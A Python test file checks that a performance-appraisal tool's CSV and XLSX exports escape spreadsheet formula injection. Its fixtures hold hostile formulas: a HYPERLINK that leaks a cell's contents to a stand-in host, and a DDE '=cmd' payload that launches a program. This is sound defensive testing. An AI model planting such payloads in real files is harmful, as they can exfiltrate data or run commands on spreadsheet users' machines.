"""Exports are inert: text from data that a spreadsheet would read as a formula stays text.

A roster whose id, name and team are formulas goes through `appraisal run`, `render` (CSV and
XLSX) and `measure --csv`; every file is read back cell by cell. In CSV a formula-like text gets a
leading `'` (OWASP's CSV-injection rule), in XLSX it is a string cell with its text unchanged;
numbers, negative ones too, stay numbers. LibreOffice, when installed, opens the files as a person
would and must find no formula in them.
"""

from __future__ import annotations

import csv
import re
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from appraisal.results.inert import csv_text, formula_like, plain, xlsx_value
from appraisal.results.storing import load_run
from outside import require_program

HYPERLINK = '=HYPERLINK("http://x/?leak="&A1,"click")'
CALC = "=cmd|' /C calc'!A0"

SCHEME = """\
scheme: hostile
version: 1
title: Hostile exports
period: quarter
roster: {source: csv, path: roster.csv, key: agent_id, name: name, team: team}
datasets:
  tickets:
    source: csv
    path: tickets.csv
    appraisee: "@agent"
    period_by: created_at
    columns: {"@agent": text, created_at: timestamp, status: text, delta: number}
indicators:
  - id: resolved
    title: "+Resolved"
    measure: {dataset: tickets, agg: count, where: "status == 'resolved'"}
    target: 2
    score: {curve: linear, worst: 0, best: 3}
    weight: 50
  - id: delta
    title: Delta
    measure: {dataset: tickets, agg: sum, of: delta}
    target: 0
    score: {curve: linear, worst: -10, best: 5}
    weight: 50
grades: {A: 90, B: 60, C: 0}
quality: {error_if: never}  # the unknown appraisee of the data is planted
"""
# id, name, team: formulas, a text that only looks like a number, spaces and a tab before a formula.
ROSTER = [
    ("=1+1", HYPERLINK, CALC),
    ("a2", "+SUM(1)", "@team"),
    ("a3", " =2+3", "\tnorth"),
    ("a4", "'=quoted", "-5"),
]
TICKETS = [
    ("=1+1", "2026-07-01 09:00", "resolved", "-3.5"),
    ("a2", "2026-07-02 09:00", "resolved", "2"),
    ("a3", "2026-07-03 09:00", "open", "1"),
    ("nobody", "2026-07-04 09:00", "open", "1"),  # an unknown appraisee: a quality row naming the column @agent
]


def _write_csv(path: Path, header: list[str], rows: list[tuple[str, ...]]) -> None:
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerows(rows)


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


@pytest.fixture(scope="module")
def scheme(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "scheme.yaml").write_text(SCHEME, encoding="utf-8")
    _write_csv(folder / "roster.csv", ["agent_id", "name", "team"], ROSTER)
    _write_csv(folder / "tickets.csv", ["@agent", "created_at", "status", "delta"], TICKETS)
    return folder / "scheme.yaml"


@pytest.fixture(scope="module")
def run_dir(scheme, tmp_path_factory) -> Path:
    """The hostile roster through `appraisal run` (in-process, once for the module)."""
    from appraisal.cli import main

    out = tmp_path_factory.mktemp("runs") / "q3"
    with pytest.raises(SystemExit) as done:
        main(["run", str(scheme), "-p", "2026-Q3", "-o", str(out), "--no-report"])
    assert done.value.code == 0
    return out


@pytest.fixture(scope="module")
def workbook(run_dir, tmp_path_factory) -> Path:
    from appraisal.cli.render_cmd import render_run

    out = tmp_path_factory.mktemp("rendered") / "out"
    render_run(run_dir, out, ["xlsx"])
    return out / "result.xlsx"


# --- the rule ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(("text", "written"), [
    ("=1+1", "'=1+1"),
    (HYPERLINK, "'" + HYPERLINK),
    (CALC, "'" + CALC),
    ("+SUM(1)", "'+SUM(1)"),
    ("-2+3", "'-2+3"),
    ("@team", "'@team"),
    ("\tnorth", "'\tnorth"),
    ("\r=1", "'\r=1"),
    (" =2+3", "' =2+3"),
    ("＝1+1", "'＝1+1"),
    ("'=quoted", "''=quoted"),
])
def test_a_formula_like_text_gets_a_leading_quote_in_csv(text, written):
    assert csv_text(text) == written


@pytest.mark.parametrize("text", ["a1", "Ann", "north", "", "-5", "+1.5", "-3.5e2", "'quoted", "1=1", "a-b", "张三"])
def test_other_text_is_written_as_it_is(text):
    assert csv_text(text) == text


@pytest.mark.parametrize("number", [-3.5, -2, 0, 7.25])
def test_numbers_stay_numbers(number):
    assert csv_text(number) == number and type(csv_text(number)) is type(number)


def test_none_is_an_empty_field():
    assert csv_text(None) == ""


@given(st.text())
@example("'=x")
@example("''")
@example(" '=x")
def test_plain_gives_back_the_text_csv_text_was_given(text):
    assert plain(csv_text(text)) == text


DECIMAL = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")  # what a spreadsheet reads as a number


@given(st.text())
@example(" \u3000@x")
def test_an_escaped_text_never_begins_a_formula(text):
    written = csv_text(text)
    if written == text and DECIMAL.fullmatch(text):
        return  # -3.5 as text: a spreadsheet reads the number, nothing else
    assert written[:1] not in set("=+-@\t\r\n\0＝＋－＠")
    assert written.lstrip()[:1] not in set("=+-@＝＋－＠")


@given(st.text())
def test_a_formula_like_text_is_written_with_one_quote_before_it(text):
    assert csv_text(text) == ("'" + text if formula_like(text) else text)


@given(st.text(alphabet=st.characters(blacklist_characters="=+-@＝＋－＠'\t\r\n\0")))
def test_text_without_a_formula_character_is_never_changed(text):
    assert csv_text(text) == text


def test_control_characters_xml_cannot_hold_are_written_visibly():
    assert xlsx_value("Bell\x07Esc\x1b[31m\ttab") == "Bell\\x07Esc\\x1b[31m\ttab"


# --- appraisal run: totals.csv, scores.csv, quality.csv ---------------------------------------------------


def test_totals_csv_escapes_formula_like_ids_names_and_teams(run_dir):
    rows = _rows(run_dir / "totals.csv")
    assert [(r["appraisee"], r["name"], r["team"]) for r in rows] == [
        ("'=1+1", "'" + HYPERLINK, "'" + CALC),
        ("a2", "'+SUM(1)", "'@team"),
        ("a3", "' =2+3", "'\tnorth"),
        ("a4", "''=quoted", "-5"),
    ]


def test_totals_csv_read_back_through_plain_gives_the_roster(run_dir):
    rows = _rows(run_dir / "totals.csv")
    assert [(plain(r["appraisee"]), plain(r["name"]), plain(r["team"])) for r in rows] == ROSTER


def test_scores_csv_escapes_ids_and_keeps_a_negative_value_a_number(run_dir):
    row = next(r for r in _rows(run_dir / "scores.csv") if r["indicator"] == "delta" and r["appraisee"] == "'=1+1")
    assert row["value"] == "-3.5"


def test_quality_csv_escapes_a_formula_like_column_name(run_dir):
    assert ["tickets", "unknown appraisee", "'@agent", "1"] in [list(r.values())[:4] for r in _rows(
        run_dir / "quality.csv")]


def test_the_run_keeps_the_original_text_of_ids_names_and_teams(run_dir):
    assert [(a.id, a.name, a.team) for a in load_run(run_dir).appraisees] == ROSTER


# --- appraisal render --format xlsx, csv -------------------------------------------------------------


def test_no_cell_is_a_formula_but_the_weighted_totals_this_module_writes(workbook):
    book = openpyxl.load_workbook(workbook)
    formulas = [(sheet.title, c.value) for sheet in book for row in sheet.iter_rows() for c in row
                if c.data_type == "f"]
    ours = re.compile(r"=SUMPRODUCT\(C\d+:\w+\d+,\w+\d+:\w+\d+\)/100")
    assert formulas and all(title == "Weighted total" and ours.fullmatch(text) for title, text in formulas), formulas


def test_formula_like_text_is_a_string_cell_with_its_text_unchanged(workbook):
    book = openpyxl.load_workbook(workbook)
    found = {(sheet.title, c.value): (c.data_type, c.quotePrefix)
             for sheet in book for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
    for sheet, text in [("Summary", "=1+1"), ("Summary", HYPERLINK), ("Summary", CALC), ("Summary", "+SUM(1)"),
                        ("Summary", "@team"), ("Summary", " =2+3"), ("Summary", "\tnorth"), ("Scores", "=1+1"),
                        ("Scores", HYPERLINK), ("Team", CALC), ("Team", "+Resolved"), ("Quality", "@agent")]:
        assert found[sheet, text] == ("s", True), (sheet, text)


def test_a_negative_value_is_a_number_cell_in_the_workbook(workbook):
    scores = openpyxl.load_workbook(workbook)["Scores"]
    header = [c.value for c in scores[1]]
    row = next(r for r in scores.iter_rows(min_row=2) if r[0].value == "=1+1" and r[2].value == "delta")
    cell = row[header.index("Value")]
    assert (cell.value, cell.data_type) == (-3.5, "n")


def test_render_csv_escapes_like_run(run_cli, run_dir, tmp_path):
    out = tmp_path / "out"
    assert run_cli("render", str(run_dir), "-f", "csv", "--out", str(out), "-q").exit_code == 0
    for name in ("scores.csv", "totals.csv", "quality.csv"):
        assert (out / name).read_bytes() == (run_dir / name).read_bytes()


def test_render_csv_escapes_a_run_stored_before_the_escaping(run_cli, run_dir, tmp_path):
    old = tmp_path / "old-run"
    shutil.copytree(run_dir, old)
    (old / "totals.csv").write_text((old / "totals.csv").read_text(encoding="utf-8").replace("'=1+1", "=1+1"),
                                    encoding="utf-8")
    out = tmp_path / "out"
    assert run_cli("render", str(old), "-f", "csv", "--out", str(out), "-q").exit_code == 0
    assert _rows(out / "totals.csv")[0]["appraisee"] == "'=1+1"


def test_a_control_character_in_a_name_is_shown_not_an_internal_error(run_cli, scheme, tmp_path):
    folder = tmp_path / "scheme"
    shutil.copytree(scheme.parent, folder)
    _write_csv(folder / "roster.csv", ["agent_id", "name", "team"], [("a2", "Bell\x07Esc\x1b[31m", "t")])
    assert run_cli("run", str(folder / "scheme.yaml"), "-p", "2026-Q3", "-o", str(tmp_path / "run"),
                   "--no-report").exit_code == 0
    done = run_cli("render", str(tmp_path / "run"), "-f", "xlsx", "--out", str(tmp_path / "out"), "-q")
    assert done.exit_code == 0, done.stderr
    assert openpyxl.load_workbook(tmp_path / "out" / "result.xlsx")["Summary"]["B2"].value == "Bell\\x07Esc\\x1b[31m"


# --- appraisal measure --csv -----------------------------------------------------------------------------


def test_measure_csv_escapes_ids_and_keeps_numbers(run_cli, scheme, tmp_path):
    values, quality = tmp_path / "values.csv", tmp_path / "quality.csv"
    done = run_cli("measure", str(scheme), "-p", "2026-Q3", "--csv", str(values), "--quality-csv", str(quality))
    assert done.exit_code == 0, done.stderr
    rows = _rows(values)
    assert [r["appraisee"] for r in rows if r["indicator"] == "delta"] == ["'=1+1", "a2", "a3", "a4"]
    assert next(r["value"] for r in rows if r["appraisee"] == "'=1+1" and r["indicator"] == "delta") == "-3.5"
    assert ["tickets", "unknown appraisee", "'@agent", "1"] in [list(r.values())[:4] for r in _rows(quality)]


# --- what a spreadsheet makes of them --------------------------------------------------------------------


def _open_in_calc(files: list[Path], tmp_path: Path) -> dict[str, set[str]]:
    """Open each file in LibreOffice Calc and save it as .xlsx: the data types of its cells, by file
    name (but the Weighted total sheet's, whose formulas are ours: see the recalculation test)."""
    soffice = require_program("soffice")
    out = tmp_path / "calc"
    subprocess.run([soffice, "--headless", "--norestore", f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
                    "--convert-to", "xlsx", "--outdir", str(out), *map(str, files)],
                   check=True, capture_output=True, timeout=300)
    return {path.stem: {c.data_type for sheet in openpyxl.load_workbook(out / f"{path.stem}.xlsx")
                        if sheet.title != "Weighted total" for row in sheet.iter_rows() for c in row}
            for path in files}


def test_libreoffice_finds_no_formula_in_our_files_and_finds_them_in_raw_ones(run_dir, workbook, tmp_path):
    raw = tmp_path / "raw.csv"
    _write_csv(raw, ["agent_id", "name", "team"], ROSTER)  # the roster as it came: the check can fail
    copies = []
    for path in [run_dir / "totals.csv", run_dir / "scores.csv", run_dir / "quality.csv", workbook]:
        copies.append(tmp_path / f"ours-{path.name.replace('.', '-')}{path.suffix}")
        shutil.copyfile(path, copies[-1])
    kinds = _open_in_calc([raw, *copies], tmp_path)
    assert "f" in kinds["raw"]
    assert {name: "f" in found for name, found in kinds.items() if name != "raw"} == {
        "ours-totals-csv": False, "ours-scores-csv": False, "ours-quality-csv": False, "ours-result-xlsx": False}


def test_libreoffice_computes_each_weighted_total_formula_to_the_engines_total(workbook, tmp_path):
    """The workbook's live formulas, recalculated by a real spreadsheet (LibreOffice Calc, which
    computes every formula saved without a value), give the totals the engine computed."""
    soffice = require_program("soffice")
    subprocess.run([soffice, "--headless", "--norestore", f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
                    "--convert-to", "xlsx", "--outdir", str(tmp_path / "calc"), str(workbook)],
                   check=True, capture_output=True, timeout=300)
    ours = openpyxl.load_workbook(workbook)["Weighted total"]
    calc = openpyxl.load_workbook(tmp_path / "calc" / workbook.name, data_only=True)["Weighted total"]
    header = [c.value for c in ours[1]]
    formula, engine = header.index("Weighted total (formula)") + 1, header.index("Weighted total (computed)") + 1
    checked = 0
    for r in range(2, ours.max_row + 1):
        if ours.cell(row=r, column=formula).data_type != "f":
            assert ours.cell(row=r, column=engine).value is None  # no total: no formula
            continue
        assert calc.cell(row=r, column=formula).value == pytest.approx(ours.cell(row=r, column=engine).value,
                                                                       rel=1e-12, abs=1e-9)
        checked += 1
    assert checked == ours.max_row - 1 - sum(ours.cell(row=r, column=engine).value is None
                                             for r in range(2, ours.max_row + 1))
    assert checked > 0
